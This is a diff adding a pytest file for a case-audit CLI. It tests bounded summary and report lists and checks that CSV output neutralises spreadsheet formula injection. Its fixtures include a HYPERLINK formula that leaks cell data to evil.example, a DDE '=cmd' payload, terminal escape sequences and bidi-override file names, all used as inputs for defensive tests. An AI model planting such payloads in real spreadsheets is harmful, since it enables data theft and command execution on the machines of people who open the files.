@@ -1,0 +1,218 @@
+"""`rulebook audit`: the cross-case checks stay bounded whatever the input, and the spreadsheets
+are safe to open in a spreadsheet program."""
+
+from __future__ import annotations
+
+import copy
+import csv
+import datetime as dt
+import json
+import random
+from fractions import Fraction
+from pathlib import Path
+
+import orjson
+import pytest
+import yaml
+from click.testing import CliRunner
+
+from rulebook.apps.audit.files import _write_csv, spreadsheet_cell
+from rulebook.apps.cli import main
+from samples import make_case
+
+from ..conftest import EXAMPLES
+
+LISTED, SHOWN = 1000, 10  # entries of a list in summary.json; cases or places of an entry
+
+
+def audit(*args) -> None:
+    result = CliRunner().invoke(main, ["audit", *map(str, args)], catch_exceptions=False)
+    assert result.exit_code in (0, 1, 3), result.output
+
+
+def write_jsonl(path: Path, cases: list[dict]) -> Path:
+    path.write_bytes(b"".join(orjson.dumps(case) + b"\n" for case in cases))
+    return path
+
+
+def sheet(path: Path) -> list[list[str]]:
+    """The rows of a spreadsheet the audit wrote, without its header."""
+    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))[1:]
+
+
+def the_seed() -> dict:
+    return orjson.loads(orjson.dumps(yaml.safe_load((EXAMPLES / "seed-case.yaml").read_text(encoding="utf-8"))))
+
+
+def expected_findings(cases: list[dict], bound: float) -> list[tuple]:
+    """(expert, day, hours, sorted case ids) of every day over the bound, the slow, plain way: on
+    each day a step of an expert starts, add up the hours a day of every step of that expert
+    running then."""
+    steps: dict[str, list] = {}
+    for case in cases:
+        who = case["expert"].get("lancers_user") or case["expert"]["name"]
+        for step in case.get("steps") or []:
+            first = step.get("started_on")
+            last = step.get("completion_reported_on") or step.get("planned_end_on")
+            if first and last and last >= first:
+                days = (dt.date.fromisoformat(last) - dt.date.fromisoformat(first)).days + 1
+                steps.setdefault(who, []).append((first, last, Fraction(step["hours"]) / days, case["case_id"]))
+    found = []
+    for who in sorted(steps):
+        for day in sorted({first for first, *_ in steps[who]}):
+            running = [s for s in steps[who] if s[0] <= day <= s[1]]
+            total = sum(s[2] for s in running)
+            if total > bound:
+                found.append((who, day, float(total), sorted({s[3] for s in running})))
+    return found
+
+
+def test_implausible_hours_are_found_once_per_expert_and_day_with_the_first_cases_and_a_count(tmp_path):
+    rng = random.Random(43)
+    # 400 cases of one expert, all begun within 20 days: their steps overlap on most days.
+    cases = [make_case(rng, i, expert=0, days=20) for i in range(400)]
+    out = tmp_path / "out"
+    audit(write_jsonl(tmp_path / "cases.jsonl", cases), "--out", out, "--jobs", "2", "--chunk-size", "50",
+          "--compact")
+    expected = expected_findings(cases, 24.0)
+    assert len(expected) > 20 and max(len(f[3]) for f in expected) > 100  # the case lists would be long
+    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
+    found = summary["implausible_hours"]
+    assert summary["implausible_hours_total"] == len(found) == len(expected)
+    for entry, (who, day, hours, ids) in zip(found, expected):
+        assert (entry["expert"], entry["day"], entry["bound"]) == (who, day, 24.0)
+        assert entry["hours"] == pytest.approx(hours, abs=0.006)
+        assert entry["case_count"] == len(ids) and entry["cases"] == ids[:SHOWN]
+    rows = sheet(out / "hours.csv")
+    assert [(r[0], r[1], float(r[2]), int(r[4]), r[5].split()) for r in rows] == [
+        (e["expert"], e["day"], e["hours"], e["case_count"], e["cases"]) for e in found]
+
+
+def _bounded(value, path: str = "") -> list[str]:
+    """The paths of the lists in a JSON value longer than summary.json allows."""
+    too_long = []
+    if isinstance(value, dict):
+        for key, item in value.items():
+            too_long += _bounded(item, f"{path}.{key}")
+    elif isinstance(value, list):
+        limit = SHOWN if path.endswith((".cases", ".where")) else LISTED
+        if len(value) > limit:
+            too_long.append(f"{path} ({len(value)})")
+        for item in value:
+            too_long += _bounded(item, f"{path}[]")
+    return too_long
+
+
+def test_every_list_of_the_summary_and_the_report_is_bounded_and_the_spreadsheets_hold_every_entry(tmp_path):
+    seed = the_seed()
+
+    def copy_of(i: int, capture: bool) -> dict:
+        case = copy.deepcopy(seed)
+        case["case_id"] = f"C-{i:05d}"
+        case["expert"]["lancers_user"] = f"expert-{i:05d}"
+        case["steps"][0]["payment_capture_attached"] = capture
+        return case
+
+    # 1,100 experts, each case of them given twice (a duplicate id), and the first case 30 times;
+    # with a bound of 1 hour a day each expert's days are implausible (40 hours over 33 days).
+    before = [copy_of(i, True) for i in range(1100)]
+    now = [copy_of(i, False) for i in range(1100) for _ in range(2)] + [copy_of(0, False)] * 28
+    write_jsonl(tmp_path / "before.jsonl", before)
+    write_jsonl(tmp_path / "now.jsonl", now)
+    audit(tmp_path / "before.jsonl", "--out", tmp_path / "before", "--jobs", "1", "--compact")
+    out = tmp_path / "now"
+    audit(tmp_path / "now.jsonl", "--out", out, "--jobs", "2", "--compact", "--hours-per-day", "1",
+          "--since", tmp_path / "before", "--lang", "en")
+    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
+    assert _bounded(summary) == []
+    assert (len(summary["implausible_hours"]), summary["implausible_hours_total"]) == (LISTED, 1100)
+    assert (len(summary["duplicates"]), summary["duplicates_total"]) == (LISTED, 1100)
+    first = summary["duplicates"][0]
+    assert first["case_id"] == "C-00000" and first["count"] == 30 and len(first["where"]) == SHOWN
+    assert first["where"][:2] == [f"{tmp_path / 'now.jsonl'}:1", f"{tmp_path / 'now.jsonl'}:2"]
+    since = summary["since"]
+    assert (len(since["changed"]), since["changed_total"]) == (LISTED, len(now))
+    # each case now fails the payment capture of its step, and so the honorarium it claims
+    assert since["new_failures"][:2] == [{"case_id": "C-00000", "rule": "claim.honorarium", "subject": "case"},
+                                         {"case_id": "C-00000", "rule": "final.payment-capture", "subject": "step:1"}]
+    assert (len(since["new_failures"]), since["new_failures_total"]) == (LISTED, 2 * len(now))
+    # the spreadsheets hold every entry
+    assert len(sheet(out / "hours.csv")) == 1100
+    duplicates = sheet(out / "duplicates.csv")
+    assert len(duplicates) == len(now) and duplicates[0][:2] == ["C-00000", "30"]
+    assert [r[2] for r in duplicates[:30]] == [f"{tmp_path / 'now.jsonl'}:{n}" for n in [1, 2, *range(2201, 2229)]]
+    changes = sheet(out / "changes.csv")
+    assert len(changes) == len(now) and changes[0] == ["C-00000", "eligible", "ineligible",
+                                                       "claim.honorarium@case final.payment-capture@step:1"]
+    # the report shows the lists of the summary, and says where the rest are
+    html = (out / "report.html").read_text(encoding="utf-8")
+    for total, name in (("1,100", "hours.csv"), ("1,100", "duplicates.csv"), (f"{len(now):,}", "changes.csv")):
+        assert f"The first 1,000 are shown; all {total} are in {name}." in html
+    assert "20 more" in html  # C-00000's 30 places, 10 of them listed
+    assert html.count('<a class="cid"') <= 100 + 1000 * SHOWN * 2 + 2000  # bounded, whatever the input
+
+
+NEUTRALISED = [
+    ('=HYPERLINK("http://evil.example/?"&A1,"open")', '\'=HYPERLINK("http://evil.example/?"&A1,"open")'),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+1", "'+1"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\\x09=1"),
+    ("\r=1", "'\\x0d=1"),
+    ("ok\x1b]0;owned\x07", "ok\\x1b]0;owned\\x07"),
+    ("abc\u202edef", "abc\\u202edef"),
+    ("a\u2066b\u2069", "a\\u2066b\\u2069"),
+    ("two\nlines", "two\\x0alines"),
+    ("株式会社サンプル", "株式会社サンプル"),
+    ("a, \"quoted\" = 1", "a, \"quoted\" = 1"),
+    ("", ""),
+    (-5, -5),
+    (60000, 60000),
+    (2.5, 2.5),
+]
+
+
+@pytest.mark.parametrize("value, cell", NEUTRALISED)
+def test_a_spreadsheet_cell_is_text_that_runs_nothing_and_numbers_stay_numbers(value, cell):
+    assert spreadsheet_cell(value) == cell
+
+
+@pytest.mark.parametrize("risky", [value for value, cell in NEUTRALISED if value != cell])
+def test_one_risky_cell_in_a_block_of_thousands_is_neutralised(tmp_path, risky):
+    rows = [(f"name {i}", i, "x, =y") for i in range(5000)]
+    rows[4500] = (risky, -1, "x, =y")  # in the second block of rows
+    _write_csv(tmp_path / "sheet.csv", ["name", "n", "note"], iter(rows), text=(0, 2))
+    assert sheet(tmp_path / "sheet.csv") == [[spreadsheet_cell(a), str(b), c] for a, b, c in rows]
+
+
+def test_the_spreadsheets_neutralise_formulas_and_control_characters_from_the_input(tmp_path, monkeypatch):
+    seed = the_seed()
+    risky = [("=HYPERLINK(\"http://evil.example\",\"x\")", "+1", "\t=1"), ("@SUM(A1)", "-2+3", "\r=1"),
+             ("-2+3", "=1+1", "evil\u202etxt.exe"), ("C-1", "ok", "two\nlines, =quoted")]
+    cases = []
+    for case_id, expert, sme in risky:
+        case = copy.deepcopy(seed)
+        case["case_id"], case["expert"]["lancers_user"], case["sme"]["name"] = case_id, expert, sme
+        cases += [case, case]  # twice: duplicates.csv lists them
+    write_jsonl(tmp_path / "=cases.jsonl", cases)
+    monkeypatch.chdir(tmp_path)  # the input named as given, a formula too
+    out = tmp_path / "out"
+    audit("=cases.jsonl", "--out", out, "--jobs", "1", "--hours-per-day", "1")
+    rows = sheet(out / "cases.csv")
+    assert [(r[0], r[6], r[7]) for r in rows[::2]] == [tuple(spreadsheet_cell(v) for v in row) for row in risky]
+    assert rows[0][:9] == ['\'=HYPERLINK("http://evil.example","x")', "謝金対象", "", "140000", "140000", "140000",
+                           "'+1", "'\\x09=1", "'=cases.jsonl:1"]
+    assert rows[2][7] == "'\\x0d=1" and rows[4][7] == "evil\\u202etxt.exe"
+    # amounts are numbers: written bare, never quoted or prefixed
+    raw = (out / "cases.csv").read_text(encoding="utf-8-sig")
+    assert ',140000,140000,140000,' in raw
+    assert {r[0] for r in sheet(out / "experts.csv")} == {"'+1", "'-2+3", "'=1+1", "ok"}
+    assert [r[1:] for r in sheet(out / "experts.csv")][0] == ["2", "0", "280000", "280000", "280000"]
+    assert {r[0] for r in sheet(out / "smes.csv")} == {"'\\x09=1", "'\\x0d=1", "evil\\u202etxt.exe",
+                                                       "two\\x0alines, =quoted"}
+    assert {r[0] for r in sheet(out / "duplicates.csv")} == {spreadsheet_cell(r[0]) for r in risky}
+    assert {(r[0], r[5]) for r in sheet(out / "hours.csv")} == {
+        (spreadsheet_cell(expert), spreadsheet_cell(case_id)) for case_id, expert, _sme in risky}
+    # the input's file name is text from the user too
+    assert [r[8] for r in rows] == [f"'=cases.jsonl:{n}" for n in range(1, 9)]
